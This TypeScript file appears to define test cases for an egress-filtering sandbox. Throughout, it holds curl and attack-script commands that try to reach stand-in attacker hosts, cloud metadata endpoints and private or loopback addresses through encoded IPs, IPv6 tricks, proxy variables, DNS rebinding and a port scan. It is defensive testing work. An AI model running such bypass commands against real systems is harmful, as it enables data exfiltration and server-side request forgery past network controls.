/** Addresses instead of names: literals in every spelling and of every range, and names that lead there. */
import { attemptsOf } from '../attempt.ts';
import { places } from '../world/places.ts';

const address = attemptsOf('address');
const name = attemptsOf('name');

const get = (host: string): string =>
  `GET /leak HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n`;
const literal = (at: string): string => `python3 $T/attack.py tcp '${at}' 80 '${get('x')}'`;
const named = (host: string): string => `python3 $T/attack.py tcp ${host} 80 '${get(host)}'`;

export const addressAttempts = [
  address('address-public', literal(places.evil)),
  address('address-public-v6', literal(places.evil6)),
  address('address-public-tls', `curl -ksS https://${places.evil}/leak`),
  address('address-of-an-allowed-name', literal(places.front)),
  address('address-private-10', literal(places.private10)),
  address('address-private-172', literal(places.private172)),
  address('address-private-192', literal(places.private192)),
  address('address-carrier-nat', literal(places.shared)),
  address('address-metadata', `curl -sS http://${places.metadata}/latest/meta-data/leak`),
  address('address-metadata-v6', `curl -gsS 'http://[${places.metadata6}]/leak'`),
  address('address-link-local', literal(places.linkLocal)),
  address('address-unique-local-v6', literal(places.unique6)),
  address('address-host-loopback', literal(places.loopback), { control: 'machine' }),
  address('address-host-loopback-8', literal(places.loopback2), { control: 'machine' }),
  address('address-host-loopback-v6', literal('::1'), { control: 'machine' }),
  address('address-zero', literal('0.0.0.0'), { control: 'machine' }),
  address('address-mapped-private', literal(`::ffff:${places.private10}`)),
  address('address-mapped-public', literal(`::ffff:${places.evil}`)),
  address('address-mapped-loopback', literal(`::ffff:${places.loopback}`), { control: 'machine' }),
  address('address-nat64', literal(places.nat64)),
  address('address-6to4', literal(places.sixToFour)),
  address('address-teredo', literal(places.teredo)),
  address('address-decimal', 'curl -sS http://167838211/leak'),
  address('address-octal', 'curl -sS http://012.01.02.03/leak'),
  address('address-hexadecimal', 'curl -sS http://0x0a010203/leak'),
  address('address-short', 'curl -sS http://10.66051/leak'),
  address('address-full-width', 'curl -sS http://１０.１.２.３/leak'),
  address('address-virtual-unassigned', literal(places.benchmark), { control: 'machine' }),
  address(
    'address-under-an-allowed-name',
    `curl -sS --resolve api.allowed.test:80:${places.private10} http://api.allowed.test/leak`,
  ),
  address(
    'address-proxy-variable',
    `http_proxy=http://${places.evil}:80 curl -sS http://api.allowed.test/leak`,
  ),
  address(
    'address-squash-api',
    `curl -sS --max-time 3 http://${places.loopback}:$API_PORT/cgi-bin/health && printf '\\nbreach: the API answers\\n'`,
    {
      control: 'machine',
    },
  ),

  name('name-not-in-policy', named('evil.test')),
  name('name-denied', named('denied.allowed.test')),
  name('name-apex-of-wildcard', named('allowed.test')),
  name('name-with-the-same-end', named('evil-allowed.test')),
  name('name-with-the-same-beginning', named('api.allowed.test.evil.test')),
  name('name-in-other-case', named('LEAK.Evil.Test')),
  name('name-with-a-dot-behind', named('evil.test.')),
  name('name-to-private-10', named('private10.allowed.test')),
  name('name-to-private-172', named('private172.allowed.test')),
  name('name-to-private-192', named('private192.allowed.test')),
  name('name-to-carrier-nat', named('shared.allowed.test')),
  name('name-to-metadata', named('metadata.allowed.test')),
  name('name-to-metadata-v6', named('metadata6.allowed.test')),
  name('name-to-loopback', named('loopback.allowed.test'), { control: 'machine' }),
  name('name-to-zero', named('zero.allowed.test'), { control: 'machine' }),
  name('name-to-link-local', named('linklocal.allowed.test')),
  name('name-to-unique-local-v6', named('unique6.allowed.test')),
  name('name-to-nat64', named('nat64.allowed.test')),
  name('name-to-mapped', named('mapped.allowed.test')),
  name('name-to-6to4', named('sixtofour.allowed.test')),
  name('name-to-teredo', named('teredo.allowed.test')),
  name('name-to-the-host', named('own.allowed.test')),
  name('name-to-virtual', named('virtual.allowed.test'), { control: 'machine' }),
  name('name-private-among-public', named('mixed.allowed.test'), {
    through: ({ address: at }) => at === places.private10,
  }),
  // Longer than any answer is kept.
  name('name-rebinding', 'python3 $T/attack.py rebind rebind.allowed.test 8', {
    through: ({ address: at }) => at === places.private10,
  }),
  name(
    'name-to-private-read',
    `curl -ksS -H "Authorization: Bearer $KEY" https://secret-private.allowed.test/leak`,
  ),
  name('name-plain-bytes', "python3 $T/attack.py tcp evil.test 7777 'leak'"),
  name('name-server-speaks-first', 'python3 $T/attack.py tcp evil.test 22 leak'),
  name('name-other-port', "python3 $T/attack.py tcp ported.test 7777 'leak'"),
  name('name-of-a-neighbour', 'python3 $T/attack.py scan 198.18.1.0 198.18.1.24 only.evil.test', {
    control: 'neighbour',
  }),
] as const;
